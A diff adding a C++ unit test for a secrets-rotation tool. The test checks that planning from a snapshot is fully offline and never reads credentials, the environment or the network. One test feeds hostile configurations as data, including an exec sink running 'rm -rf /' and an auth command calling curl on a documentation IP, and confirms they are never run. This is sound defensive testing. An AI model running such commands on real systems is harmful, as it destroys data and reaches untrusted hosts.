@@ -1,0 +1,148 @@
+// What needs neither the network nor a credential touches neither: a World
+// whose ports fail the test when somebody as much as asks for them.
+#include <gtest/gtest.h>
+
+#include <sstream>
+
+#include "absl/strings/str_cat.h"
+#include "engine/pipeline.h"
+#include "engine/plan/snapshot_file.h"
+#include "tests/fakes/dump.h"
+#include "tests/fakes/fake_files.h"
+#include "tests/fakes/world.h"
+
+namespace patform {
+namespace {
+
+constexpr char kKey[] = "a key for tests, long enough";
+constexpr char kHead[] =
+    "format = 1\nworkspace = \"w\"\norganization = \"contoso\"\n"
+    "[sink.main]\ntype = \"file\"\npath = \"secrets\"\n";
+
+class OfflineTest : public ::testing::Test {
+ protected:
+  OfflineTest() {
+    then_.AddSink("main");
+    then_.Declare("ci", {"main:ci"});
+    then_.Run();
+    snapshot_ = *then_.Look();
+
+    world_.clock = &then_.clock;
+    world_.files = &files_;
+    world_.environment =
+        [this](const std::string& name) -> std::optional<std::string> {
+      if (name == "PATFORM_PLAN_KEY") return key_;
+      ADD_FAILURE() << "asked for the variable " << name;
+      return "hunter2";
+    };
+    world_.out = world_.err = &said_;
+    world_.in = &typed_;
+    const auto touched = [](const char* what) {
+      ADD_FAILURE() << "touched: " << what;
+      return absl::InternalError("touched");
+    };
+    world_.token_reader = [touched](auto&...) {
+      return touched("token_reader");
+    };
+    world_.provider = [touched](auto&...) { return touched("provider"); };
+    world_.record_reader = [touched](auto&) { return touched("a reader"); };
+    world_.sink = [touched](auto&) { return touched("a sink"); };
+    world_.owner = [] {
+      ADD_FAILURE() << "asked for the user";
+      return "";
+    };
+    world_.nonce = [] {
+      ADD_FAILURE() << "asked for a nonce";
+      return "";
+    };
+    world_.interrupted = [] { return 0; };
+    request_.config = "patform.toml";
+    request_.snapshot = "world.json";
+    request_.now = then_.clock.Now() + absl::Hours(3);
+    files_.files["world.json"] = WriteSnapshot(snapshot_, "");
+  }
+
+  std::string PlanOf(const std::string& toml) {
+    files_.files["patform.toml"] = toml;
+    std::vector<Diagnostic> diagnostics;
+    absl::StatusOr<DesiredState> desired =
+        LoadDesired(world_, request_, diagnostics);
+    if (!desired.ok()) return Render(diagnostics);
+    const absl::StatusOr<Planned> planned =
+        PlanFor(world_, request_, *std::move(desired), {});
+    if (!planned.ok()) return std::string(planned.status().message());
+    EXPECT_EQ(planned->plan.snapshot_taken_at, snapshot_.taken_at);
+    EXPECT_EQ(planned->plan.owner, snapshot_.owner);
+    return Dump(planned->plan.changes);
+  }
+
+  FakeWorld then_;
+  ActualState snapshot_;
+  FakeFiles files_;
+  std::ostringstream said_;
+  std::istringstream typed_;
+  std::optional<std::string> key_;
+  World world_;
+  PipelineRequest request_;
+};
+
+TEST_F(OfflineTest, PlansFromASnapshot) {
+  EXPECT_EQ(PlanOf(absl::StrCat(kHead,
+                                "[token.ci]\nscopes = [\"vso.work\"]\n"
+                                "deliver = [{ to = \"main\", at = \"ci\" }]\n"
+                                "[token.new]\nscopes = [\"vso.code\"]\n"
+                                "deliver = [{ to = \"main\", at = \"n\" }]\n")),
+            "~ token.ci update scope_changed {scopes: vso.build vso.code → "
+            "vso.work}\n"
+            "+ token.new create not_found gen 1\n"
+            "note token.new: main:n is not in the snapshot; it is taken for "
+            "empty\n");
+  EXPECT_EQ(files_.reads,
+            (std::vector<std::string>{"patform.toml", "world.json"}));
+}
+
+// Whatever the file of a pull request asks for.
+TEST_F(OfflineTest, HostileConfigurations) {
+  const std::string token =
+      "[token.ci]\nscopes = [\"vso.code\", \"vso.build\"]\n"
+      "deliver = [{ to = \"evil\", at = \"ci\" }]\n";
+  for (const char* sink :
+       {"type = \"exec\"\ncommand = [\"rm\", \"-rf\", \"/\"]\n",
+        "type = \"vault\"\naddress = \"https://192.0.2.1\"\nmount = \"kv\"\n",
+        "type = \"key_vault\"\nvault = \"evil\"\n"}) {
+    EXPECT_EQ(PlanOf(absl::StrCat(kHead, "[sink.evil]\n", sink,
+                                  "[auth]\nsource = \"exec\"\n"
+                                  "command = [\"curl\", \"192.0.2.1\"]\n",
+                                  token)),
+              "+/- token.ci rotate secret_not_in_sink gen 2 retires 1\n"
+              "note token.ci: evil:ci is not in the snapshot; it is taken for "
+              "empty\n");
+  }
+}
+
+TEST_F(OfflineTest, SnapshotsThatWillNotDo) {
+  const std::string toml =
+      absl::StrCat(kHead, "[token.ci]\nscopes = [\"vso.code\"]\n");
+  key_ = kKey;
+  EXPECT_EQ(PlanOf(toml),
+            "world.json: it is not signed, and PATFORM_PLAN_KEY is set: only "
+            "what was signed with that key is taken");
+  key_ = "short";
+  EXPECT_EQ(PlanOf(toml),
+            "PATFORM_PLAN_KEY has 5 bytes: a key that short can be guessed. At "
+            "least 16 are needed; make one with `openssl rand -hex 32`");
+  key_ = "";
+  files_.files["world.json"] = "{}";
+  EXPECT_EQ(PlanOf(toml),
+            "world.json: it is no snapshot; `patform snapshot --out FILE` "
+            "writes one");
+  request_.baseline = "world.json";
+  EXPECT_EQ(PlanOf(toml),
+            "--baseline world.json: it is no snapshot and no saved plan");
+  request_.baseline = "";
+  files_.files.erase("world.json");
+  EXPECT_EQ(PlanOf(toml), "no such file");
+}
+
+}  // namespace
+}  // namespace patform
